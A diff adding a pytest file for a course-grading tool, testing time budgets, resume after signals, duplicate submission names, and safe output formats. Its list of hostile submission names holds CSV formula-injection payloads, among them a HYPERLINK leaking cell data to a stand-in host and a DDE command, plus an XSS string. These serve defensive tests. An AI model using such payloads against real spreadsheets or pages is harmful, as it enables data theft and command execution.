@@ -1,0 +1,272 @@
+"""Grading a class that always answers: within a total time budget, with hostile names,
+with two submissions of one name, and stopped by any signal.
+
+Every class here is made of the mini course's files, so each submission grades in seconds
+except where a test makes it loop on purpose.
+"""
+
+import csv
+import json
+import os
+import signal
+import subprocess
+import sys
+import time
+import xml.etree.ElementTree as ET
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from kata.cli import cli
+from kata.course import load_course
+from kata.instructor import formats, gradebook
+from kata.results import CheckResult, ExerciseResult, Grading, Outcome
+
+from .helpers import MINI
+
+SOLVED = {f.name: f.read_text() for f in (MINI / "solutions").glob("*.py")}
+STUBS = {f.name: f.read_text() for f in (MINI / "exercises").glob("*.py")}
+GOOD_DRAW = "def draw" + SOLVED["01_demo.py"].split("def draw", 1)[1]
+LOOPS_IN_DOUBLE = "import jax\n\ndef double(x):\n    while True:\n        pass\n\n" + GOOD_DRAW
+LOOPS_ON_IMPORT = "import jax\n\nwhile True:\n    pass\n"
+
+
+def submission(folder: Path, files: dict[str, str]) -> Path:
+    folder.mkdir(parents=True)
+    for name, text in files.items():
+        (folder / name).write_text(text)
+    return folder
+
+
+def kata_process(*args: str, cwd: Path, env: dict[str, str] | None = None, **popen):
+    return subprocess.Popen(
+        [sys.executable, "-m", "kata", "--course", str(MINI), *args],
+        cwd=cwd,
+        env={**os.environ, **(env or {})},
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        **popen,
+    )
+
+
+def read_rows(path: Path) -> list[dict[str, str]]:
+    with path.open(newline="", encoding="utf-8") as stream:
+        return list(csv.DictReader(stream))
+
+
+# A total budget -------------------------------------------------------------------------
+
+BUDGET_SECONDS = 120
+
+
+def test_a_class_with_endless_loops_is_graded_within_its_budget(tmp_path):
+    """Each check may run 60 s (the default); a loop in one exercise costs only its share,
+    and every other exercise of every submission still gets its verdict."""
+    subs = tmp_path / "submissions"
+    submission(subs / "correct", SOLVED)
+    submission(subs / "loops_in_double", {**SOLVED, "01_demo.py": LOOPS_IN_DOUBLE})
+    submission(subs / "loops_on_import", {**SOLVED, "01_demo.py": LOOPS_ON_IMPORT})
+    submission(subs / "partial", {**STUBS, "02_other.py": SOLVED["02_other.py"]})
+    out, json_path = tmp_path / "grades.csv", tmp_path / "grades.json"
+    started = time.monotonic()
+    process = kata_process(
+        "grade", *sorted(str(p) for p in subs.iterdir()), "--out", str(out),
+        "--json", str(json_path), "--jobs", "2", "--budget", str(BUDGET_SECONDS),
+        cwd=tmp_path,
+    )  # fmt: skip
+    _, err = process.communicate(timeout=BUDGET_SECONDS + 60)
+    seconds = time.monotonic() - started
+    assert process.returncode == 0, err
+    assert seconds < BUDGET_SECONDS, f"took {seconds:.0f} s of a {BUDGET_SECONDS} s budget"
+    rows = {Path(r["submission"]).name: r for r in read_rows(out)}
+    assert {name: (r["01_demo"], r["02_other"]) for name, r in rows.items()} == {
+        "correct": ("1", "1"),
+        "loops_in_double": ("0.5", "1"),  # draw passes; double's task ends at its loop
+        "loops_on_import": ("0", "1"),
+        "partial": ("0", "1"),
+    }
+    entries = {Path(e["submission"]).name: e for e in gradebook.read_entries(json_path)}
+    double = entries["loops_in_double"]["exercises"]["01_demo"]["checks"]
+    assert [c["outcome"] for c in double] == ["failed", "not run", "passed"], double
+    assert "Timeout" in double[0]["message"]
+    assert double[1]["message"].startswith("not reached: “double: doubles eagerly” ran out")
+    on_import = entries["loops_on_import"]["exercises"]["01_demo"]["checks"]
+    assert all(c["outcome"] != "passed" for c in on_import)
+    assert all(c["message"] for c in on_import), "a check not reached must say why"
+
+
+def test_a_gradescope_run_answers_within_its_budget(tmp_path):
+    """What run_autograder runs: a budget for the whole run, results.json always."""
+    folder = submission(tmp_path / "upload", {**SOLVED, "01_demo.py": LOOPS_ON_IMPORT})
+    results = tmp_path / "results.json"
+    started = time.monotonic()
+    process = kata_process(
+        "check", "--cold", "--dir", str(folder), "--format", "gradescope", "--out",
+        str(results), "--budget", "40", cwd=tmp_path,
+    )  # fmt: skip
+    _, err = process.communicate(timeout=120)
+    seconds = time.monotonic() - started
+    assert process.returncode == 1, err
+    assert seconds < 40 + 10, f"took {seconds:.0f} s of a 40 s budget"
+    tests = json.loads(results.read_text())["tests"]
+    assert [t["status"] for t in tests if t["name"].startswith("02_other")] == ["passed"]
+    looped = [t for t in tests if t["name"].startswith("01_demo")]
+    assert looped and all(t["status"] == "failed" and t["output"] for t in looped), looped
+
+
+def test_a_budget_is_shared_by_the_rounds_still_to_start():
+    budget = gradebook.TimeBudget(100 + gradebook.STOPPING_SECONDS, submissions=5, jobs=2)
+    shares = [budget.share() for _ in range(5)]
+    # 5 submissions, 2 at a time: 3 rounds, then 2, 2, 1, 1 of the time still left.
+    assert [round(s) for s in shares] == [33, 50, 50, 100, 100]
+
+
+# Names are data --------------------------------------------------------------------------
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTAB=1",
+    "\rCR=1",
+    "<script>alert('x')</script>&amp;",
+    'new\nline, "quoted"',
+    "名前 ü ñ 🎓",
+    "x" * 240,
+    "back\\slash",
+]
+
+
+def test_hostile_names_stay_data_in_every_format(tmp_path, monkeypatch):
+    subs = tmp_path / "s"
+    paths = [
+        submission(subs / name, {"02_other.py": SOLVED["02_other.py"]}) for name in HOSTILE_NAMES
+    ]
+    out, json_path, report = tmp_path / "g.csv", tmp_path / "g.json", tmp_path / "r.html"
+    monkeypatch.chdir(subs)  # each name starts its cell, as `kata grade *` in the class's folder
+    result = CliRunner().invoke(
+        cli,
+        ["--course", str(MINI), "grade", "--out", str(out), "--json", str(json_path),
+         "--report", str(report), "--jobs", "2", "--", *HOSTILE_NAMES],
+    )  # fmt: skip
+    assert result.exit_code == 0, result.output
+    rows = read_rows(out)
+    assert len(rows) == len(HOSTILE_NAMES)
+    for row in rows:
+        for cell in row.values():
+            assert not cell.startswith(formats.FORMULA_STARTS), f"a formula cell: {cell!r}"
+    written = {row["submission"] for row in rows}
+    labels = [os.path.normpath(name) for name in HOSTILE_NAMES]  # "http://" is two folders
+    for name in labels:
+        expected = "'" + name if name.startswith(formats.FORMULA_STARTS) else name
+        assert expected in written, f"{name!r} is not in the gradebook as text"
+    entries = gradebook.read_entries(json_path)
+    assert sorted(e["submission"] for e in entries) == sorted(labels)
+    assert {e["id"] for e in entries} == {gradebook.submission_id(p) for p in paths}
+    page = report.read_text()
+    assert "<script" not in page
+
+
+def test_text_a_learner_controls_keeps_junit_well_formed():
+    course = load_course(MINI)
+    nasty = '\x1b[31mred\x1b[0m \x07 \x00 <tag> ]]> & "q" 名前'
+    check = CheckResult(
+        id="c", exercise="01_demo", name=nasty, task=nasty, outcome=Outcome.FAILED,
+        message=nasty, output=nasty, notes=[nasty],
+    )  # fmt: skip
+    grading = Grading(Path("/tmp"), [ExerciseResult(course.exercises[0], [check])])
+    root = ET.fromstring(formats.to_junit(grading).encode())
+    case = root.find(".//testcase")
+    assert case is not None and "<tag> ]]> &" in case.get("name")
+    assert "\\x1b[31mred" in case.find("failure").get("message")
+
+
+# Two submissions of one name ---------------------------------------------------------------
+
+
+def test_two_alice_folders_are_two_rows_and_resume_keeps_both(tmp_path):
+    first = submission(tmp_path / "a" / "alice", {"02_other.py": SOLVED["02_other.py"]})
+    second = submission(tmp_path / "b" / "alice", {"02_other.py": STUBS["02_other.py"]})
+    out = tmp_path / "grades.csv"
+
+    def grade(*paths: str, resume: bool = False):
+        args = ["--course", str(MINI), "grade", *paths, "--out", str(out), "--jobs", "1"]
+        return CliRunner().invoke(cli, args + (["--resume"] if resume else []))
+
+    assert grade(str(first)).exit_code == 0
+    resumed = grade(str(first), str(second), resume=True)
+    assert resumed.exit_code == 0, resumed.output
+    assert "Graded 1 submissions" in resumed.output
+    rows = read_rows(out)
+    assert [(r["submission"], r["02_other"]) for r in rows] == [
+        (str(first), "1"),
+        (str(second), "0"),
+    ]
+    again = grade(f"{first}/", str(tmp_path / "b" / "." / "alice"), resume=True)
+    assert "Graded 0 submissions" in again.output, "the same folders, written differently"
+    assert len(read_rows(out)) == 2
+
+
+def test_a_gradebook_of_other_columns_is_not_continued(tmp_path):
+    out = tmp_path / "grades.csv"
+    out.write_text("submission,01_demo,02_other,total,max,notes\nalice,1,1,2,2,\n")
+    folder = submission(tmp_path / "alice", {"02_other.py": SOLVED["02_other.py"]})
+    result = CliRunner().invoke(
+        cli, ["--course", str(MINI), "grade", str(folder), "--out", str(out), "--resume"]
+    )
+    assert result.exit_code == 2 and "columns" in result.output, result.output
+    assert "Traceback" not in result.output
+
+
+# Stopping -----------------------------------------------------------------------------------
+
+
+def processes_using(scratch: Path) -> list[int]:
+    """Processes whose environment names `scratch` (every grading process has it in TMPDIR)."""
+    found = []
+    for entry in Path("/proc").iterdir():
+        try:
+            if entry.name.isdigit() and str(scratch).encode() in (entry / "environ").read_bytes():
+                found.append(int(entry.name))
+        except OSError:
+            continue
+    return found
+
+
+@pytest.mark.parametrize(
+    "stop", [signal.SIGTERM, signal.SIGHUP, signal.SIGINT], ids=lambda stop: stop.name
+)
+def test_a_signal_mid_grade_removes_every_copy_and_resume_finishes(tmp_path, stop):
+    scratch = tmp_path / "tmp"
+    scratch.mkdir()
+    subs = tmp_path / "subs"
+    paths = [
+        submission(subs / "s1", {"02_other.py": SOLVED["02_other.py"]}),
+        submission(subs / "s2", {"01_demo.py": LOOPS_IN_DOUBLE}),
+        submission(subs / "s3", {"01_demo.py": LOOPS_IN_DOUBLE}),
+    ]
+    out = tmp_path / "grades.csv"
+    args = ["grade", *map(str, paths), "--out", str(out), "--jobs", "1"]
+    process = kata_process(*args, cwd=tmp_path, env={"TMPDIR": str(scratch)})
+    deadline = time.monotonic() + 120
+    # Stop it while s2 loops: one row written, a run's scratch folder in use.
+    while not (
+        out.exists() and len(read_rows(out)) == 1 and len(list(scratch.glob("kata-*"))) >= 2
+    ):
+        assert process.poll() is None, process.communicate()
+        assert time.monotonic() < deadline, "grading never reached the second submission"
+        time.sleep(0.1)
+    process.send_signal(stop)
+    _, err = process.communicate(timeout=60)
+    assert process.returncode == 128 + stop, err
+    assert "--resume" in err and "Traceback" not in err
+    assert list(scratch.iterdir()) == [], "temporary copies were left behind"
+    assert not processes_using(scratch), "a grading process outlived the run"
+    assert [Path(r["submission"]).name for r in read_rows(out)] == ["s1"]
+    resumed = kata_process(*args, "--resume", "--timeout", "3", cwd=tmp_path)
+    _, err = resumed.communicate(timeout=300)
+    assert resumed.returncode == 0, err
+    assert [Path(r["submission"]).name for r in read_rows(out)] == ["s1", "s2", "s3"]
